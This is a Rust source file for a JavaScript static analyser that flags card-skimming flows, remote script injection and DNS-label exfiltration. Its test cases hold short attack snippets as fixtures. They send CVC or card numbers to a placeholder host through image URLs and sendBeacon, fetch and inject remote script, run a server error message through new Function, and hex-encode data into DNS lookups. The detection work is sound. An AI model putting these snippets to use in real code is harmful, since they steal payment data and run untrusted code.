//! What a page shows and runs: addresses of pictures, which are requests too, and scripts that are put
//! into it.

use oxc_ast::ast::*;
use oxc_span::GetSpan;

use super::super::bind::{self, Base};
use super::super::value::{Val, member};
use super::Flows;
use crate::check::flow::far;

/// The address of a picture or another thing that a page fetches by itself.
pub(super) const PICTURE: &str = "picture";

/// Names of members, lower case, without underscores, that hold what somebody pays with.
const CARDS: &[&str] =
    &["cvc", "cvv", "cvc2", "cvv2", "cvn", "securitycode", "cardnumber", "ccnumber", "cardcvc", "cardcvv"];

/// Elements that fetch what their address names.
const FETCHING: &[&str] =
    &["img", "iframe", "link", "script", "source", "embed", "audio", "video", "image", "input"];

/// Members that hold such an address.
const ADDRESSES: &[&str] = &["src", "href", "srcset", "srcSet", "poster", "data"];

/// Levels of names that an element is looked for through.
const MAX_NAMES: u8 = 4;

/// Whether a member of that name holds the code or the number of a card.
pub(super) fn is_card(name: &str) -> bool {
    name.len() <= 16 && CARDS.contains(&name.replace('_', "").to_ascii_lowercase().as_str())
}

/// Whether a file may put scripts or pictures into a page.
pub(super) fn shows(text: &[u8]) -> bool {
    let has = |word: &str| memchr::memmem::find(text, word.as_bytes()).is_some();
    has("createElement") && has("script")
        || ["cvc", "cvv", "CVC", "CVV", "ardNumber", "card_number", "ecurityCode"].into_iter().any(has)
}

impl<'a> Flows<'_, '_, '_, '_, 'a, '_> {
    /// Whether an expression is what was caught: by `catch`, or handed to who waits for a failure.
    pub(super) fn is_error(&self, object: &'a Expression<'a>) -> bool {
        let Expression::Identifier(name) = object.get_inner_expression() else { return false };
        let Some(symbol) = bind::symbol(self.resolver.scoping, name) else { return false };
        self.resolver.scoping.symbol_flags(symbol).is_catch_variable()
            || matches!(name.name.as_str(), "err" | "error" | "e" | "ex" | "reason" | "failure")
    }

    /// `read('https://…')`, where `read` is a parameter.
    pub(super) fn is_handed_address(&self, call: &'a CallExpression<'a>) -> bool {
        let Expression::Identifier(name) = call.callee.get_inner_expression() else { return false };
        let Some(symbol) = bind::symbol(self.resolver.scoping, name) else { return false };
        let defs = self.resolver.bindings.defs.get(symbol.index()).map_or(&[][..], Vec::as_slice);
        matches!(defs, [def] if matches!(def.base, Base::Param(..)))
            && call
                .arguments
                .first()
                .and_then(Argument::as_expression)
                .and_then(|address| self.resolver.approximate(address))
                .is_some_and(|text| far(&text))
    }

    /// Whether an expression is an element of that kind, made here.
    fn made(&self, element: &'a Expression<'a>, kinds: &[&str], depth: u8) -> bool {
        match element.get_inner_expression() {
            Expression::CallExpression(call) => {
                let method = call.callee.get_inner_expression().as_member_expression();
                method.and_then(MemberExpression::static_property_name).is_some_and(|method| {
                    let at = match method {
                        "createElement" => 0,
                        "createElementNS" => 1,
                        _ => return false,
                    };
                    let kind = call.arguments.get(at).and_then(Argument::as_expression);
                    kind.is_some_and(|kind| {
                        self.resolver
                            .expr(kind)
                            .as_str()
                            .is_some_and(|kind| kinds.contains(&kind.to_ascii_lowercase().as_str()))
                    })
                })
            }
            Expression::NewExpression(new) => kinds.contains(&"img") && new.callee.is_specific_id("Image"),
            Expression::Identifier(name) if depth < MAX_NAMES => {
                self.resolver.sole(name).is_some_and(|value| self.made(value, kinds, depth + 1))
            }
            _ => false,
        }
    }

    /// `script.textContent = code`, `script.src = URL.createObjectURL(new Blob([code]))`,
    /// `picture.src = address`.
    pub(super) fn shown(&mut self, it: &'a AssignmentExpression<'a>) {
        let AssignmentTarget::StaticMemberExpression(target) = &it.left else { return };
        let name = target.property.name.as_str();
        let text = matches!(name, "textContent" | "text" | "innerHTML" | "innerText");
        if text && self.made(&target.object, &["script"], 0) {
            let deps = self.deps(&it.right);
            self.sink("dynamic-code", it.span, deps);
        }
        if ADDRESSES.contains(&name) {
            if let Expression::CallExpression(call) = it.right.get_inner_expression()
                && let Some(of) = call.callee.get_inner_expression().as_member_expression()
                && of.static_property_name() == Some("createObjectURL")
                && self.made(&target.object, &["script"], 0)
            {
                let mut deps = Vec::new();
                self.arguments(&call.arguments, 0, &mut deps);
                self.sink("dynamic-code", it.span, deps);
            }
            if name != "href" || self.made(&target.object, FETCHING, 0) {
                let deps = self.deps(&it.right);
                self.sink(PICTURE, it.right.span(), deps);
            }
        }
    }

    /// `jsx('img', { src })`, `element.setAttribute('src', address)`, `script.append(code)`,
    /// `navigator.sendBeacon(address, data)`.
    pub(super) fn element(&mut self, call: &'a CallExpression<'a>) {
        let callee = call.callee.get_inner_expression();
        let method = match callee {
            Expression::Identifier(name) => Some(name.name.as_str()),
            Expression::SequenceExpression(it) => it
                .expressions
                .last()
                .and_then(|last| last.as_member_expression())
                .and_then(MemberExpression::static_property_name),
            _ => callee.as_member_expression().and_then(MemberExpression::static_property_name),
        };
        let (Some(method), [first, rest @ ..]) = (method, call.arguments.as_slice()) else { return };
        let Some(first) = first.as_expression() else { return };
        let second = rest.first().and_then(Argument::as_expression);
        match method.trim_start_matches('_') {
            "jsx" | "jsxs" | "jsxDEV" | "createElement" | "h" | "createVNode" | "createElementVNode" => {
                let kind = self.resolver.expr(first);
                let fetches = kind.as_str().is_some_and(|kind| FETCHING.contains(&kind));
                if let Some(Val::Object(object)) = second.filter(|_| fetches).map(|it| self.resolver.expr(it))
                    && let Some(address) = member(object, ADDRESSES)
                {
                    let deps = self.deps(address);
                    self.sink(PICTURE, address.span(), deps);
                }
            }
            "setAttribute" => {
                let name = self.resolver.expr(first);
                if let Some(address) =
                    second.filter(|_| name.as_str().is_some_and(|name| ADDRESSES.contains(&name)))
                {
                    let deps = self.deps(address);
                    self.sink(PICTURE, address.span(), deps);
                }
            }
            "sendBeacon" if self.is_fixed(&call.arguments) => {
                let mut deps = Vec::new();
                self.arguments(&call.arguments, 0, &mut deps);
                self.sink(PICTURE, call.span, deps);
            }
            "append" | "appendChild" | "replaceChildren" | "prepend" => {
                let Some(of) = callee.as_member_expression() else { return };
                if !self.made(of.object(), &["script"], 0) {
                    return;
                }
                let mut deps = Vec::new();
                match first.get_inner_expression() {
                    // `document.createTextNode(code)`
                    Expression::CallExpression(inner) => self.arguments(&inner.arguments, 0, &mut deps),
                    _ => self.arguments(&call.arguments, 0, &mut deps),
                }
                self.sink("dynamic-code", call.span, deps);
            }
            _ => {}
        }
    }

    /// `<img src={address} />`
    pub(super) fn marked_up(&mut self, it: &'a JSXOpeningElement<'a>) {
        let JSXElementName::Identifier(kind) = &it.name else { return };
        if !FETCHING.contains(&kind.name.as_str()) {
            return;
        }
        for attribute in &it.attributes {
            if let JSXAttributeItem::Attribute(attribute) = attribute
                && let JSXAttributeName::Identifier(name) = &attribute.name
                && ADDRESSES.contains(&name.name.as_str())
                && let Some(JSXAttributeValue::ExpressionContainer(value)) = &attribute.value
                && let Some(address) = value.expression.as_expression()
            {
                let deps = self.deps(address);
                self.sink(PICTURE, address.span(), deps);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::check::parse::js::parse;
    use crate::model::FactKind;

    fn flows(source: &str) -> Vec<String> {
        let facts = parse("index.jsx", source).facts;
        facts.into_iter().filter(|fact| fact.kind == FactKind::Flow).map(|fact| fact.name).collect()
    }

    #[test]
    fn what_somebody_pays_with_in_addresses() {
        for source in [
            "export const F = (v) => <img src={`https://c.invalid/l.svg?r=${btoa(v.cvc)}`} />;",
            "export const F = ({ card }) => jsx('img', { src: address([card.cvv].join('~')) }); const address = (x) => 'https://c.invalid/?x=' + x;",
            "export function f(v) { const i = new Image(); i.src = 'https://c.invalid/?' + encodeURIComponent(v.cardNumber); }",
            "export function f(v) { const { cvc } = v; const l = document.createElement('link'); l.href = '//c.invalid/' + cvc; }",
            "export function f(v) { navigator.sendBeacon('https://c.invalid/b', JSON.stringify(v.cvc)); }",
        ] {
            assert!(
                flows(source).iter().any(|name| name == "card->picture"),
                "{source}: {:?}",
                flows(source)
            );
        }
        for source in [
            "export const F = (v) => <img src={v.logos[v.brand]} alt={v.cvc.length} />;",
            "export const F = (v) => <input value={v.cvc} maxLength={4} />;",
            "export const pay = (v) => fetch('/pay', { method: 'POST', body: JSON.stringify({ cvc: v.cvc }) });",
        ] {
            assert!(!flows(source).iter().any(|name| name == "card->picture"), "{source}");
        }
    }

    #[test]
    fn code_that_is_put_into_a_page() {
        for source in [
            "export async function f() { const t = await (await fetch('https://c.invalid/a')).text(); const s = document.createElement('script'); s.textContent = t; document.head.append(s); }",
            "export async function f(read) { const t = await read('https://c.invalid/a.png'); const s = document.createElement('script'); s.appendChild(document.createTextNode(t)); }",
            "const axios = require('axios'); exports.f = async () => { try { await axios.get(url); } catch (err) { new Function('require', err.response.data.message)(require); } };",
        ] {
            assert!(
                flows(source).iter().any(|name| name == "net->dynamic-code"),
                "{source}: {:?}",
                flows(source)
            );
        }
        for source in [
            "export async function f() { const t = await (await fetch('https://c.invalid/a')).text(); const s = document.createElement('style'); s.textContent = t; }",
            "export function f(data) { const s = document.createElement('script'); s.type = 'application/json'; s.textContent = JSON.stringify(data); }",
        ] {
            assert!(!flows(source).iter().any(|name| name == "net->dynamic-code"), "{source}");
        }
    }

    #[test]
    fn labels_that_are_put_together_elsewhere() {
        for source in [
            "const dns = require('dns'); const Z = ['w', 'c', 'invalid']; const names = (t) => Buffer.from(t).toString('hex').match(/.{1,60}/g).map((p, i) => [p, i, ...Z].join('.')); exports.f = (t) => names(t).map((n) => dns.promises.resolve4(n));",
            "const dns = require('dns'); const name = (t) => `${Buffer.from(t).toString('hex')}.c.invalid`; exports.f = (t) => { const n = name(t); dns.resolveTxt(n, () => {}); };",
        ] {
            assert!(
                flows(source).iter().any(|name| name == "encoded->subdomain"),
                "{source}: {:?}",
                flows(source)
            );
        }
        let honest = "const dns = require('dns'); exports.f = (h) => dns.resolve4([h, 'c', 'invalid'].join('.'), () => {});";
        assert!(!flows(honest).iter().any(|name| name == "encoded->subdomain"));
    }
}
